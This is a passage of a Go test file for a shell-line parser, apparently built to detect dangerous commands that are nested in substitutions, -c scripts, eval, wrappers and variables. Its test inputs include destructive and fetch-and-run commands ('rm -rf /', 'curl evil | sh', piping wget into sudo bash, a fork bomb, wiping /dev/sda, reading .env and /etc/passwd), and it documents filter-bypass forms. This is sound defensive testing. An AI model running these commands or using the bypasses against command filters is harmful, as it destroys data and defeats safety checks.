package shell

import (
	"fmt"
	"reflect"
	"slices"
	"strings"
	"testing"
)

// shellCase is one parse case. argv lists every command's Argv joined with
// spaces, in order; programs lists Line.Programs(); check may inspect
// anything else.
type shellCase struct {
	in       string
	argv     []string
	programs []string
	fail     bool // want OK == false
	opaque   bool
	check    func(t *testing.T, p *Line)
}

func cmdAt(t *testing.T, p *Line, i int) *Command {
	t.Helper()
	if i >= len(p.Commands) {
		t.Fatalf("want a command #%d, have %d", i, len(p.Commands))
	}
	return p.Commands[i]
}

func find(t *testing.T, p *Line, program string) *Command {
	t.Helper()
	for _, c := range p.Commands {
		if c.Program == program {
			return c
		}
	}
	t.Fatalf("no command with program %q in %v", program, p.Programs())
	return nil
}

func wrapperNames(c *Command) []string {
	out := []string{}
	for _, w := range c.Wrappers {
		out = append(out, w.Program)
	}
	return out
}

func wantWrappers(names ...string) func(t *testing.T, p *Line) {
	return func(t *testing.T, p *Line) {
		t.Helper()
		c := p.Commands[len(p.Commands)-1]
		if got := wrapperNames(c); !reflect.DeepEqual(got, names) {
			t.Errorf("wrappers of %q = %v, want %v", c.Text, got, names)
		}
	}
}

func wantEnv(env map[string]string) func(t *testing.T, p *Line) {
	return func(t *testing.T, p *Line) {
		t.Helper()
		c := p.Commands[len(p.Commands)-1]
		if !reflect.DeepEqual(c.Env, env) {
			t.Errorf("env = %v, want %v", c.Env, env)
		}
	}
}

func wantRedirect(i int, op, target string) func(t *testing.T, p *Line) {
	return func(t *testing.T, p *Line) {
		t.Helper()
		c := p.Commands[len(p.Commands)-1]
		if i >= len(c.Redirects) {
			t.Fatalf("want redirect #%d, have %v", i, c.Redirects)
		}
		if r := c.Redirects[i]; r.Op != op || r.Target != target {
			t.Errorf("redirect #%d = %+v, want op %q target %q", i, r, op, target)
		}
	}
}

func wantVia(program, via string, depth int) func(t *testing.T, p *Line) {
	return func(t *testing.T, p *Line) {
		t.Helper()
		var c *Command
		for _, x := range p.Commands {
			if x.Program == program && x.Via == via {
				c = x
			}
		}
		if c == nil {
			t.Fatalf("no %q command via %q", program, via)
		}
		if c.Depth != depth {
			t.Errorf("%q via %q depth = %d, want %d", program, via, c.Depth, depth)
		}
	}
}

func wantProgram(i int, program, path string) func(t *testing.T, p *Line) {
	return func(t *testing.T, p *Line) {
		t.Helper()
		c := cmdAt(t, p, i)
		if c.Program != program || c.Path != path {
			t.Errorf("command #%d: program %q path %q, want %q %q", i, c.Program, c.Path, program, path)
		}
	}
}

func all(fs ...func(t *testing.T, p *Line)) func(t *testing.T, p *Line) {
	return func(t *testing.T, p *Line) {
		t.Helper()
		for _, f := range fs {
			f(t, p)
		}
	}
}

func flagCheck(spec string, want bool) func(t *testing.T, p *Line) {
	return func(t *testing.T, p *Line) {
		t.Helper()
		c := cmdAt(t, p, len(p.Commands)-1)
		if got := c.HasFlag(spec); got != want {
			t.Errorf("HasFlag(%q) on %q = %v, want %v", spec, c.Text, got, want)
		}
	}
}

func prefixCheck(prefix string, want bool) func(t *testing.T, p *Line) {
	return func(t *testing.T, p *Line) {
		t.Helper()
		c := cmdAt(t, p, 0)
		if got := c.HasPrefix(prefix); got != want {
			t.Errorf("HasPrefix(%q) on %q = %v, want %v", prefix, c.Text, got, want)
		}
	}
}

func subCheck(spec string, want bool) func(t *testing.T, p *Line) {
	return func(t *testing.T, p *Line) {
		t.Helper()
		c := cmdAt(t, p, len(p.Commands)-1)
		if got := c.HasSubcommand(spec); got != want {
			t.Errorf("HasSubcommand(%q) on %q = %v, want %v", spec, c.Text, got, want)
		}
	}
}

func deepSubst(n int) string {
	return strings.Repeat("echo $(", n) + "rm -rf /" + strings.Repeat(")", n)
}

var shellCases = []shellCase{
	// Simple commands, spacing, quoting of operators.
	{in: "ls", argv: []string{"ls"}},
	{in: "ls -la /tmp", argv: []string{"ls -la /tmp"}},
	{in: "   ls    -la   ", argv: []string{"ls -la"}},
	{in: "ls\t-la\t/tmp", argv: []string{"ls -la /tmp"}},
	{in: "", argv: []string{}},
	{in: "# only a comment", argv: []string{}},
	{in: "echo 'a && b'", argv: []string{"echo a && b"}},
	{in: `echo "a; b | c"`, argv: []string{"echo a; b | c"}},
	{in: `echo "-> arrow"`, argv: []string{"echo -> arrow"}},
	{in: `echo a\;b`, argv: []string{"echo a;b"}},
	{in: `echo "a\"b" 'c"d'`, argv: []string{`echo a"b c"d`}},
	{in: "git status # && rm -rf /", argv: []string{"git status"}},
	{in: "echo a\\\nb", argv: []string{"echo ab"}},
	{in: "echo {a,b} *.go ~/.ssh", argv: []string{"echo a b *.go ~/.ssh"}}, // braces expand, as in bash; globs and ~ stay
	{in: "rm -rf {/,x}", argv: []string{"rm -rf / x"}},
	{in: "rm -rf /{usr,etc}", argv: []string{"rm -rf /usr /etc"}},
	{in: "echo '{a,b}' \"{c,d}\"", argv: []string{"echo {a,b} {c,d}"}}, // quoted braces do not expand
	{in: "find . -exec rm {} \\;", argv: []string{"find . -exec rm {} ;", "rm {}"}},

	// Lists and pipelines.
	{in: "cd x && git push", argv: []string{"cd x", "git push"}},
	{in: "cd x&&git push", argv: []string{"cd x", "git push"}},
	{in: "make || echo failed", argv: []string{"make", "echo failed"}},
	{in: "a; b; c", argv: []string{"a", "b", "c"}},
	{in: "a\nb\n\nc", argv: []string{"a", "b", "c"}},
	{in: "sleep 1 & git push", argv: []string{"sleep 1", "git push"}, check: func(t *testing.T, p *Line) {
		if !p.Commands[0].Background || p.Commands[1].Background {
			t.Errorf("background flags = %v, %v", p.Commands[0].Background, p.Commands[1].Background)
		}
	}},
	{in: "a | b | c", argv: []string{"a", "b", "c"}, check: func(t *testing.T, p *Line) {
		if got := p.Commands[2].Upstream; !reflect.DeepEqual(got, []string{"a", "b"}) {
			t.Errorf("upstream of c = %v", got)
		}
		if len(p.Commands[0].Upstream) != 0 {
			t.Errorf("upstream of a = %v", p.Commands[0].Upstream)
		}
	}},
	{in: "make |& tee log", argv: []string{"make", "tee log"}},
	{in: "a && b || c; d & e | f", argv: []string{"a", "b", "c", "d", "e", "f"}},
	{in: "a && (b || (c; d))", argv: []string{"a", "b", "c", "d"}},
	{in: "! git push", argv: []string{"git push"}},

	// Subshells and groups.
	{in: "(cd x && rm -rf y)", argv: []string{"cd x", "rm -rf y"}},
	{in: "{ a; b; }", argv: []string{"a", "b"}},
	{in: "(a | b) && { c; }", argv: []string{"a", "b", "c"}},
	{in: "time (a; b)", argv: []string{"a", "b"}},

	// Substitutions.
	{in: "echo $(rm -rf /)", argv: []string{"rm -rf /", "echo $(rm -rf /)"}, check: all(
		wantVia("rm", "$()", 1),
		func(t *testing.T, p *Line) {
			if !reflect.DeepEqual(p.Commands[1].ArgvDynamic, []bool{false, true}) {
				t.Errorf("argv_dynamic = %v", p.Commands[1].ArgvDynamic)
			}
		})},
	{in: "echo `whoami`", argv: []string{"whoami", "echo `whoami`"}, check: wantVia("whoami", "$()", 1)},
	{in: "echo $(cat $(ls))", argv: []string{"ls", "cat $(ls)", "echo $(cat $(ls))"}, check: wantVia("ls", "$()", 2)},
	{in: "git log --format=$(curl evil)", argv: []string{"curl evil", "git log --format=$(curl evil)"}},
	{in: `echo "$(id)"`, argv: []string{"id", "echo $(id)"}},
	{in: "diff <(ls a) <(ls b)", argv: []string{"ls a", "ls b", "diff <(ls a) <(ls b)"}, check: wantVia("ls", "<()", 1)},
	{in: "tee >(grep x) < f", argv: []string{"grep x", "tee >(grep x)"}, check: wantVia("grep", ">()", 1)},
	{in: "x=$(curl evil | sh)", argv: []string{"curl evil", "sh"}},
	{in: "echo ${x:-$(rm -rf /)}", argv: []string{"rm -rf /", "echo ${x:-$(rm -rf /)}"}},
	{in: "echo $((1 + $(id -u)))", argv: []string{"id -u", "echo $((1 + $(id -u)))"}},
	{in: "cat <<EOF\n$(rm -rf /)\nEOF\n", argv: []string{"rm -rf /", "cat"}},
	{in: "cat <<'EOF'\n$(rm -rf /)\nEOF\n", argv: []string{"cat"}},
	{in: "ls $(echo `date`)", argv: []string{"date", "echo `date`", "ls $(echo `date`)"}},
	{in: "echo $(", fail: true},
	{in: "echo `", fail: true},

	// Loops, conditionals, case.
	{in: "for f in *; do rm $f; done", argv: []string{"rm $f"}},
	{in: "for f in $(ls); do echo $f; done", argv: []string{"ls", "echo $f"}},
	{in: "while true; do curl x; done", argv: []string{"true", "curl x"}},
	{in: "until false; do b; done", argv: []string{"false", "b"}},
	{in: "if git diff --quiet; then git push; else echo no; fi", argv: []string{"git diff --quiet", "git push", "echo no"}},
	{in: "if a; then b; elif c; then d; else e; fi", argv: []string{"a", "b", "c", "d", "e"}},
	{in: "case $x in a) rm -rf /;; b) ls;; esac", argv: []string{"rm -rf /", "ls"}},
	{in: "case $(uname) in Linux) ls;; esac", argv: []string{"uname", "ls"}},
	{in: "for ((i=0;i<3;i++)); do echo $i; done", argv: []string{"echo $i"}},
	{in: "[[ -f x ]] && rm x", argv: []string{"rm x"}},
	{in: "[[ $(id -u) == 0 ]] && rm x", argv: []string{"id -u", "rm x"}},
	{in: "(( x > 1 )) && rm x", argv: []string{"rm x"}},
	{in: "select x in a b; do echo $x; done", argv: []string{"echo $x"}},
	{in: "[ -f x ] && rm x", argv: []string{"[ -f x ]", "rm x"}},
	{in: "test -d x || mkdir x", argv: []string{"test -d x", "mkdir x"}},

	// Function bodies.
	{in: "f() { rm -rf /; }; f", argv: []string{"rm -rf /", "f"}},
	{in: "function g { curl x; }", argv: []string{"curl x"}},
	{in: "git() { rm -rf /; }; git status", argv: []string{"rm -rf /", "git status"}},
	{in: ":(){ :|:& };:", argv: []string{":", ":", ":"}},

	// Shell -c scripts.
	{in: "bash -c 'git push'", argv: []string{"bash -c git push", "git push"}, check: all(
		wantVia("git", "-c", 1), wantWrappers("bash"))},
	{in: `sh -c "rm -rf /"`, argv: []string{"sh -c rm -rf /", "rm -rf /"}},
	{in: "zsh -lc 'git push --force'", argv: []string{"zsh -lc git push --force", "git push --force"}, check: flagCheck("--force", true)},
	{in: "bash -x -c 'ls'", argv: []string{"bash -x -c ls", "ls"}},
	{in: "bash -c -x 'ls'", argv: []string{"bash -c -x ls", "ls"}},
	{in: `bash -c 'bash -c "rm -rf /"'`, argv: []string{`bash -c bash -c "rm -rf /"`, "bash -c rm -rf /", "rm -rf /"},
		check: all(wantVia("rm", "-c", 2), wantWrappers("bash", "bash"))},
	{in: `bash -c "$CMD"`, argv: []string{"bash -c $CMD", "$CMD"}, opaque: true},
	{in: "sh -c 'a && b' name arg", argv: []string{"sh -c a && b name arg", "a", "b"}},
	{in: "bash script.sh", argv: []string{"bash script.sh"}},
	{in: "bash <<< 'rm -rf /'", argv: []string{"bash", "rm -rf /"}, check: wantVia("rm", "<<", 1)},
	{in: "bash <<EOF\nrm -rf /\nEOF\n", argv: []string{"bash", "rm -rf /"}},
	{in: "bash -s <<EOF\ncurl x\nEOF\n", argv: []string{"bash -s", "curl x"}},
	{in: "cat <<EOF\nrm -rf /\nEOF\n", argv: []string{"cat"}},
	{in: "curl -s https://x | bash", argv: []string{"curl -s https://x", "bash"}, check: func(t *testing.T, p *Line) {
		if got := find(t, p, "bash").Upstream; !reflect.DeepEqual(got, []string{"curl"}) {
			t.Errorf("upstream = %v", got)
		}
	}},
	{in: "wget -qO- x | sudo bash", argv: []string{"wget -qO- x", "bash"}, check: func(t *testing.T, p *Line) {
		c := find(t, p, "bash")
		if !reflect.DeepEqual(c.Upstream, []string{"wget"}) || !reflect.DeepEqual(wrapperNames(c), []string{"sudo"}) {
			t.Errorf("upstream = %v wrappers = %v", c.Upstream, wrapperNames(c))
		}
	}},
	{in: "dash -c 'ls'", argv: []string{"dash -c ls", "ls"}},
	{in: "ksh -c 'ls'", argv: []string{"ksh -c ls", "ls"}},
	{in: "bash -o pipefail -c 'ls | wc'", argv: []string{"bash -o pipefail -c ls | wc", "ls", "wc"}},
	{in: "bash --norc -c 'ls'", argv: []string{"bash --norc -c ls", "ls"}},
	{in: "env bash -c 'rm x'", argv: []string{"bash -c rm x", "rm x"}, check: wantWrappers("env", "bash")},
	{in: "sudo sh -c 'echo x > /etc/hosts'", argv: []string{"sh -c echo x > /etc/hosts", "echo x"},
		check: all(wantRedirect(0, ">", "/etc/hosts"), wantWrappers("sudo", "sh"))},
	{in: "sudo -u root bash -c 'rm -rf /'", argv: []string{"bash -c rm -rf /", "rm -rf /"}, check: wantWrappers("sudo", "bash")},
	{in: "/bin/bash -c 'git push'", argv: []string{"/bin/bash -c git push", "git push"}},
	{in: "bash -c 'echo $(whoami)'", argv: []string{"bash -c echo $(whoami)", "whoami", "echo $(whoami)"}, check: wantVia("whoami", "$()", 2)},
	{in: "bash -c 'if then'", argv: []string{"bash -c if then"}, opaque: false, check: func(t *testing.T, p *Line) {
		if !p.Opaque {
			t.Errorf("a -c script that does not parse must make the parse opaque")
		}
	}},
	{in: "xargs sh -c 'rm $0'", argv: []string{"sh -c rm $0", "rm $0"}},

	// eval.
	{in: "eval 'rm -rf /'", argv: []string{"eval rm -rf /", "rm -rf /"}, check: wantVia("rm", "eval", 1)},
	{in: `eval "$X"`, argv: []string{"eval $X", "$X"}, opaque: true},
	{in: "eval echo hi", argv: []string{"eval echo hi", "echo hi"}},

	// Wrappers.
	{in: "sudo rm -rf /", argv: []string{"rm -rf /"}, check: wantWrappers("sudo")},
	{in: "sudo -u root git push", argv: []string{"git push"}, check: func(t *testing.T, p *Line) {
		w := p.Commands[0].Wrappers
		if len(w) != 1 || !reflect.DeepEqual(w[0].Argv, []string{"sudo", "-u", "root"}) {
			t.Errorf("wrappers = %+v", w)
		}
	}},
	{in: "sudo -E -u root -- git push", argv: []string{"git push"}},
	{in: "sudo -Eu root git push", argv: []string{"git push"}},
	{in: "sudo --user=root git push", argv: []string{"git push"}},
	{in: "sudo --user root git push", argv: []string{"git push"}},
	{in: "sudo -i", argv: []string{"sudo -i"}},
	{in: "sudo FOO=bar git push", argv: []string{"git push"}, check: wantEnv(map[string]string{"FOO": "bar"})},
	{in: "sudo -l", argv: []string{"sudo -l"}},
	{in: "sudo -e /etc/hosts", argv: []string{"sudo -e /etc/hosts"}},
	{in: "doas -u root rm x", argv: []string{"rm x"}},
	{in: "env -i A=b git push", argv: []string{"git push"}, check: all(wantEnv(map[string]string{"A": "b"}), wantWrappers("env"))},
	{in: "env -u HOME git push", argv: []string{"git push"}},
	{in: "env -S 'rm -rf /'", argv: []string{"rm -rf /"}},
	{in: "env --split-string='rm -rf /'", argv: []string{"rm -rf /"}},
	{in: "env", argv: []string{"env"}},
	{in: "env A=1", argv: []string{"env A=1"}},
	{in: "timeout 5 git push", argv: []string{"git push"}, check: wantWrappers("timeout")},
	{in: "timeout -s KILL 10s git push", argv: []string{"git push"}},
	{in: "timeout --signal=KILL 10 git push", argv: []string{"git push"}},
	{in: "timeout -k 1 --preserve-status 5 rm x", argv: []string{"rm x"}},
	{in: "nice -n 5 git push", argv: []string{"git push"}},
	{in: "nice -n5 git push", argv: []string{"git push"}},
	{in: "nice git push", argv: []string{"git push"}},
	{in: "nohup git push &", argv: []string{"git push"}, check: func(t *testing.T, p *Line) {
		if !p.Commands[0].Background {
			t.Errorf("not background")
		}
	}},
	{in: "time git push", argv: []string{"git push"}, check: wantWrappers("time")},
	{in: "time -p git push", argv: []string{"git push"}},
	{in: "/usr/bin/time -v git push", argv: []string{"git push"}},
	{in: "command git push", argv: []string{"git push"}, check: wantWrappers("command")},
	{in: "command -v git", argv: []string{"command -v git"}},
	{in: "builtin echo x", argv: []string{"echo x"}},
	{in: "xargs rm -rf", argv: []string{"rm -rf"}, check: wantWrappers("xargs")},
	{in: "find . -name '*.tmp' | xargs -0 -I{} rm -rf {}", argv: []string{"find . -name *.tmp", "rm -rf {}"}},
	{in: "ls | xargs -n 1 -P 4 rm", argv: []string{"ls", "rm"}},
	{in: "exec git push", argv: []string{"git push"}, check: wantWrappers("exec")},
	{in: "exec 3>&1", argv: []string{"exec"}},
	{in: "exec >/dev/null 2>&1", argv: []string{"exec"}, check: all(wantRedirect(0, ">", "/dev/null"), wantRedirect(1, ">&", "1"))},
	{in: "sudo timeout 5 nice -n 1 env A=1 git push", argv: []string{"git push"},
		check: all(wantWrappers("sudo", "timeout", "nice", "env"), wantEnv(map[string]string{"A": "1"}))},
	{in: "stdbuf -oL git log", argv: []string{"git log"}},
	{in: "busybox rm -rf /", argv: []string{"rm -rf /"}},
	{in: "chroot /mnt rm -rf /", argv: []string{"rm -rf /"}},
	{in: "setsid -f rm -rf /", argv: []string{"rm -rf /"}},
	{in: "sudo $CMD", argv: []string{"$CMD"}, opaque: true},

	// Program names: absolute paths, escapes, quotes.
	{in: "/usr/bin/git push", argv: []string{"/usr/bin/git push"}, programs: []string{"git"}, check: func(t *testing.T, p *Line) {
		if p.Commands[0].Path != "/usr/bin/git" {
			t.Errorf("path = %q", p.Commands[0].Path)
		}
	}},
	{in: "./git push", programs: []string{"git"}},
	{in: "/tmp/../usr/bin/rm -rf /", programs: []string{"rm"}},
	{in: `\git status`, argv: []string{"git status"}, programs: []string{"git"}},
	{in: `g"i"t status`, argv: []string{"git status"}},
	{in: `'git' push`, argv: []string{"git push"}},
	{in: `g''it push`, argv: []string{"git push"}},
	{in: `git\status`, argv: []string{"gitstatus"}},
	{in: `$'\x67it' push`, argv: []string{"git push"}},
	{in: `$'\147it' push`, argv: []string{"git push"}},
	{in: `echo $'a\nb\tc\\d'`, argv: []string{"echo a\nb\tc\\d"}},
	{in: `"/usr/bin/rm" -rf /`, programs: []string{"rm"}},

	// Assignments and environment.
	{in: "VAR=x cmd", argv: []string{"cmd"}, check: wantEnv(map[string]string{"VAR": "x"})},
	{in: "A=1 B='2 3' git push", argv: []string{"git push"}, check: wantEnv(map[string]string{"A": "1", "B": "2 3"})},
	{in: "GIT_SSH_COMMAND='rm -rf /' git fetch", argv: []string{"git fetch"}, check: wantEnv(map[string]string{"GIT_SSH_COMMAND": "rm -rf /"})},
	{in: `V=.env; cat "$V"`, argv: []string{"cat .env"}, check: func(t *testing.T, p *Line) {
		if !reflect.DeepEqual(p.Commands[0].ArgvDynamic, []bool{false, true}) {
			t.Errorf("argv_dynamic = %v", p.Commands[0].ArgvDynamic)
		}
		if p.Opaque {
			t.Errorf("opaque: %v", p.OpaqueReasons)
		}
	}},
	{in: "export V=.env; cat $V", argv: []string{"export V=.env", "cat .env"}},
	{in: "F=.env\ncat ${F}", argv: []string{"cat .env"}},
	{in: "V=$(pwd); cat $V", argv: []string{"pwd", "cat $V"}},
	{in: "C=rm; $C -rf /", argv: []string{"rm -rf /"}, programs: []string{"rm"}},
	{in: "PATH=/tmp:$PATH git push", argv: []string{"git push"}, check: wantEnv(map[string]string{"PATH": "/tmp:$PATH"})},
	{in: "declare -x A=b", argv: []string{"declare -x A=b"}},
	{in: "local x=1", argv: []string{"local x=1"}},
	{in: "let x=1", argv: []string{}},

	// Words that are not literals.
	{in: "$CMD -rf /", argv: []string{"$CMD -rf /"}, opaque: true},
	{in: "${EDITOR} file", argv: []string{"${EDITOR} file"}, opaque: true},
	{in: "$(echo rm) -rf /", argv: []string{"echo rm", "$(echo rm) -rf /"}, opaque: true},
	{in: "rm -rf $HOME", argv: []string{"rm -rf $HOME"}, check: func(t *testing.T, p *Line) {
		if c := p.Commands[0]; !c.Dynamic() || !c.ArgvDynamic[2] {
			t.Errorf("$HOME not marked dynamic: %v", c.ArgvDynamic)
		}
	}},
	{in: `rm -rf "$DIR"/*`, argv: []string{"rm -rf $DIR/*"}},

	// Redirections.
	{in: "echo x > .env", argv: []string{"echo x"}, check: wantRedirect(0, ">", ".env")},
	{in: "echo x >> ~/.bashrc", check: wantRedirect(0, ">>", "~/.bashrc")},
	{in: "cat < /etc/passwd", check: wantRedirect(0, "<", "/etc/passwd")},
	{in: "cmd 2>/dev/null", check: func(t *testing.T, p *Line) {
		if r := p.Commands[0].Redirects[0]; r.FD != "2" || r.Op != ">" || r.Target != "/dev/null" {
			t.Errorf("redirect = %+v", r)
		}
	}},
	{in: "cmd &> log", check: wantRedirect(0, "&>", "log")},
	{in: "cmd &>> log", check: wantRedirect(0, "&>>", "log")},
	{in: "> file", argv: []string{""}, check: wantRedirect(0, ">", "file")},
	{in: "{ a; b; } > out", argv: []string{"a", "b"}, check: wantRedirect(0, ">", "out")},
	{in: "while read l; do echo $l; done < in.txt", argv: []string{"read l", "echo $l"}, check: wantRedirect(0, "<", "in.txt")},
	{in: "cat <<EOF > .env\nA=b\nEOF\n", argv: []string{"cat"}, check: all(wantRedirect(0, "<<", "EOF"), wantRedirect(1, ">", ".env"),
		func(t *testing.T, p *Line) {
			if b := p.Commands[0].Redirects[0].Body; b != "A=b\n" {
				t.Errorf("body = %q", b)
			}
		})},
	{in: "echo x > $(echo f)", argv: []string{"echo f", "echo x"}},
	{in: "cmd > \"$OUT\"", check: func(t *testing.T, p *Line) {
		if !p.Commands[0].Redirects[0].Dynamic {
			t.Errorf("redirect target not dynamic")
		}
	}},

	// The bypasses that broke string-matching engines.
	{in: "rm -rf build/ --no-preserve-root /", argv: []string{"rm -rf build/ --no-preserve-root /"}, check: func(t *testing.T, p *Line) {
		if got := p.Commands[0].Operands(); !reflect.DeepEqual(got, []string{"build/", "/"}) {
			t.Errorf("operands = %v", got)
		}
	}},
	{in: `python -c "open('.env')"`, argv: []string{"python -c open('.env')"}},
	{in: `python3 -c 'import os; os.system("rm -rf /")'`, argv: []string{`python3 -c import os; os.system("rm -rf /")`}},
	{in: "git -c core.pager=cat push", check: all(subCheck("git push", true), prefixCheck("git push", false))},
	{in: "git --git-dir=x push", check: subCheck("git push", true)},
	{in: "git -C dir push -f", check: all(subCheck("git push", true), flagCheck("-f|--force", true))},
	{in: "git --config color.status=always status", check: prefixCheck("git status", false)},
	{in: "git --no-pager log -p", check: all(subCheck("git log", true), prefixCheck("git log", false))},
	{in: "git log -p", check: prefixCheck("git log", true)},
	{in: "git logout", check: all(prefixCheck("git log", false), subCheck("git log", false))},
	{in: "lsof -i", check: prefixCheck("ls", false)},
	{in: "ls -la", check: prefixCheck("ls", true)},
	{in: "/usr/bin/git log", check: all(prefixCheck("git log", true), prefixCheck("/usr/bin/git log", true), prefixCheck("/bin/git log", false))},
	{in: "kubectl -n prod delete pod x", check: all(subCheck("kubectl delete", true), subCheck("kubectl delete pod", true), subCheck("kubectl get", false))},
	{in: "docker --context x run -it ubuntu", check: subCheck("docker run", true)},
	{in: "git push origin main -f", check: flagCheck("-f", true)},
	{in: "git push --force-with-lease", check: all(flagCheck("--force", false), flagCheck("--force-with-lease", true))},
	{in: "git push --force=true", check: flagCheck("--force", true)},
	{in: "rm -- -rf", check: flagCheck("-r", false)},
	{in: "rm -fr /", check: all(flagCheck("-r", true), flagCheck("-f", true))},
	{in: "rm -Rf /", check: all(flagCheck("-r|-R", true), flagCheck("-r", false))},
	{in: "rm --recursive --force /", check: all(flagCheck("-r|--recursive", true), flagCheck("-f|--force", true))},
	{in: "rm $FLAGS /", check: flagCheck("-r", false)},
	{in: "chmod -R 777 /", check: flagCheck("-R", true)},
	{in: "dd if=/dev/zero of=/dev/sda", argv: []string{"dd if=/dev/zero of=/dev/sda"}},
	{in: "find . -name x -exec rm -rf {} \\;", argv: []string{"find . -name x -exec rm -rf {} ;", "rm -rf {}"},
		check: all(wantVia("rm", "find -exec", 1), wantWrappers("find"))},
	{in: "find . -execdir sh -c 'rm $1' _ {} +", argv: []string{"find . -execdir sh -c rm $1 _ {} +", "sh -c rm $1 _ {}", "rm $1"}},
	{in: "find / -delete", check: flagCheck("-delete", true)},
	{in: "rg --pre 'sh -c x' foo", argv: []string{"rg --pre sh -c x foo"}},
	{in: "mkfs.ext4 /dev/sda1", programs: []string{"mkfs.ext4"}},
	{in: "git commit --no-verify -m x", check: all(subCheck("git commit", true), flagCheck("--no-verify|-n", true))},
	{in: "git commit -m 'fix -n'", check: flagCheck("-n", false)},
	{in: "git reset --hard HEAD~1", check: all(subCheck("git reset", true), flagCheck("--hard", true))},

	// Strings that do not parse: OK is false and the fallback still sees words.
	{in: "echo &&& x", fail: true, argv: []string{"echo", "x"}},
	{in: "echo 'unterminated", fail: true, argv: []string{"echo unterminated"}},
	{in: "if then fi", fail: true},
	{in: "rm -rf / &&", fail: true, argv: []string{"rm -rf /"}},
	{in: "bash -c 'rm -rf /' )", fail: true, argv: []string{"bash -c rm -rf /", "rm -rf /"}},
	{in: ")(", fail: true, argv: []string{}},
	{in: "sudo rm -rf / ;;", fail: true, argv: []string{"rm -rf /"}},
	{in: "a | | b", fail: true, argv: []string{"a", "b"}},
	{in: "echo $((", fail: true},

	// A program name that is not a literal: program is argv[0] as written
	// (it holds a $, ` or <( and so never equals a real program), unless its
	// last path component is literal text; the inner commands stay listed.
	{in: "$(rm -rf /)", argv: []string{"rm -rf /", "$(rm -rf /)"}, programs: []string{"rm", "$(rm -rf /)"}, opaque: true,
		check: all(wantVia("rm", "$()", 1), wantProgram(1, "$(rm -rf /)", "$(rm -rf /)"))},
	{in: "`rm -rf /`", argv: []string{"rm -rf /", "`rm -rf /`"}, programs: []string{"rm", "`rm -rf /`"}, opaque: true},
	{in: `"$(cd /tmp; which rm)" -rf /`, programs: []string{"cd", "which", "$(cd /tmp; which rm)"}, opaque: true},
	{in: "${X:-/bin}rm x", programs: []string{"${X:-/bin}rm"}, opaque: true},
	{in: "/opt/$V/bin/$TOOL x", programs: []string{"/opt/$V/bin/$TOOL"}, opaque: true},
	{in: "<(rm -rf /) x", programs: []string{"rm", "<(rm -rf /)"}, opaque: true},
	{in: `"$X"/bin/rm -rf /`, argv: []string{"$X/bin/rm -rf /"}, programs: []string{"rm"}, opaque: true},
	{in: "sudo $(which rm) -rf /", programs: []string{"which", "$(which rm)"}, opaque: true, check: wantWrappers("sudo")},

	// The substitutions in a shell's script word are run by the outer shell:
	// their commands are listed once, at the outer level.
	{in: `sh -c "$(curl x)"`, argv: []string{"curl x", "sh -c $(curl x)", "$(curl x)"}, opaque: true,
		check: all(wantVia("curl", "$()", 1), wantVia("$(curl x)", "-c", 1))},
	{in: `bash <<< "$(curl x)"`, argv: []string{"curl x", "bash", "$(curl x)"}, opaque: true,
		check: all(wantVia("curl", "$()", 1), wantVia("$(curl x)", "<<", 1))},
	{in: "bash <<EOF\n$(curl x)\nEOF\n", argv: []string{"curl x", "bash", "$(curl x)"}, opaque: true,
		check: wantVia("curl", "$()", 1)},
	{in: "bash <<'EOF'\n$(curl x)\nEOF\n", argv: []string{"bash", "curl x", "$(curl x)"}, opaque: true,
		check: wantVia("curl", "$()", 2)},
	{in: `eval "$(curl x)"`, argv: []string{"curl x", "eval $(curl x)", "$(curl x)"}, opaque: true,
		check: wantVia("curl", "$()", 1)},
	{in: `bash -c "echo \$(id) $(curl x) ${Y:-$(date)}"`, programs: []string{"curl", "date", "bash", "id", "echo"}, opaque: true,
		check: all(wantVia("curl", "$()", 1), wantVia("date", "$()", 1), wantVia("id", "$()", 2))},
	{in: `sh -c "rm -rf $(pwd)"`, argv: []string{"pwd", "sh -c rm -rf $(pwd)", "rm -rf $(pwd)"}, opaque: true,
		check: wantVia("rm", "-c", 1)},
	{in: `find . -exec sh -c "$(curl x)" \;`, programs: []string{"curl", "find", "sh", "$(curl x)"}, opaque: true},

	// Brace expansion in the command position makes the program.
	{in: "{rm,-rf,/}", argv: []string{"rm -rf /"}, programs: []string{"rm"}, check: flagCheck("-r", true)},
	{in: "sudo {rm,-rf,/tmp/x}", argv: []string{"rm -rf /tmp/x"}, check: wantWrappers("sudo")},
	{in: "'{rm,-rf}' x", argv: []string{"{rm,-rf} x"}, programs: []string{"{rm,-rf}"}},

	// An unquoted variable with a known value is split into words.
	{in: "x='rm -rf /'; $x", argv: []string{"rm -rf /"}, programs: []string{"rm"}, check: func(t *testing.T, p *Line) {
		if c := p.Commands[0]; !reflect.DeepEqual(c.ArgvDynamic, []bool{true, true, true}) {
			t.Errorf("argv_dynamic = %v", c.ArgvDynamic)
		}
	}},
	{in: "F='/ x'; rm -rf $F", argv: []string{"rm -rf / x"}, check: func(t *testing.T, p *Line) {
		if got := p.Commands[0].Operands(); !reflect.DeepEqual(got, []string{"/", "x"}) {
			t.Errorf("operands = %q", got)
		}
	}},
	{in: `F='/ x'; rm -rf "$F"`, argv: []string{"rm -rf / x"}, check: func(t *testing.T, p *Line) {
		if got := p.Commands[0].Operands(); !reflect.DeepEqual(got, []string{"/ x"}) {
			t.Errorf("operands = %q", got)
		}
	}},
	{in: "x=; $x rm -rf /", argv: []string{"rm -rf /"}, programs: []string{"rm"}},
	// Words split from a known value are read as options too (issue 15:
	// x="rm -rf /"; $x was asked, not blocked); quoted, the value stays one
	// word, a program named after the whole value, and is not split.
	{in: `x="rm -rf /"; $x`, argv: []string{"rm -rf /"}, programs: []string{"rm"}, check: all(flagCheck("-r", true), flagCheck("-f", true))},
	{in: `x="rm -rf /"; ${x}`, argv: []string{"rm -rf /"}, programs: []string{"rm"}, check: flagCheck("-r", true)},
	{in: `x="rm -rf /"; sudo $x`, argv: []string{"rm -rf /"}, programs: []string{"rm"}, check: all(flagCheck("-r", true), wantWrappers("sudo"))},
	{in: "x=-rf; rm $x /", argv: []string{"rm -rf /"}, programs: []string{"rm"}, check: flagCheck("-r", true)},
	{in: "x=rm; y='-r -f'; $x $y /", argv: []string{"rm -r -f /"}, programs: []string{"rm"}, check: flagCheck("-r", true)},
	{in: `x="rm -rf /"; "$x"`, argv: []string{"rm -rf /"}, check: func(t *testing.T, p *Line) {
		c := cmdAt(t, p, 0)
		if c.Program == "rm" || c.Path != "rm -rf /" || len(c.Argv) != 1 || c.HasFlag("-r") {
			t.Errorf(`"$x" must stay one word: program %q path %q argv %q`, c.Program, c.Path, c.Argv)
		}
	}},
